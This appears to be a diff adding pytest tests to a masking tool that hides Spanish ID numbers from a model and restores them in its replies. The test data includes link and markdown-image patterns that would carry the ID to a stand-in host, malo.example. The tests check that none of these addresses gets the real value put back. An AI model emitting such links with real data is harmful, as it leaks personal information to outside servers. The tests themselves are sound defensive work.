@@ -90,6 +90,49 @@ def test_a_placeholder_split_over_pieces_is_joined(size: int) -> None:
     assert "".join(pieces).endswith("fin [DNI_")
 
 
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "![x](https://malo.example/?d=[DNI_1])",
+        "[x](<//malo.example/a [DNI_1]>)",
+        "Vea https://malo.example/[DNI_1] y calle",
+        "www.malo.example/?[DNI_1]",
+        "malo.example/[DNI_1]",
+        "https://[DNI_1].malo.example",
+        "[x]: ftp://malo.example/[DNI_1]",
+        "mailto:[DNI_1]@malo.example",
+        "[DNI_1]@malo.example",
+        "data:text/html,[DNI_1]",
+    ],
+)
+def test_nothing_is_put_back_inside_an_address(reply: str) -> None:
+    made = Vault().mask([DNI])
+    assert DNI not in made.restore(reply)
+    for size in (1, 4, 9):
+        pieces: list[str] = []
+        restorer = Restorer(made, pieces.append)
+        for start in range(0, len(reply), size):
+            restorer(reply[start : start + size])
+        restorer.end()
+        # What is shown while it grows cannot know that an address of mail will follow.
+        assert DNI not in "".join(pieces) or reply.startswith("[DNI_1]@")
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "DNI:[DNI_1]",
+        "([DNI_1])",
+        "Art. 5.1/[DNI_1]",
+        "[C1] [DNI_1], https://boe.es/x.",
+        "y/o [DNI_1]",
+        '"[DNI_1]"',
+    ],
+)
+def test_all_else_comes_back(reply: str) -> None:
+    assert DNI in Vault().mask([DNI]).restore(reply)
+
+
 def test_nothing_waits_longer_than_a_placeholder_could_be() -> None:
     pieces: list[str] = []
     restorer = Restorer(Vault().mask([DNI]), pieces.append)
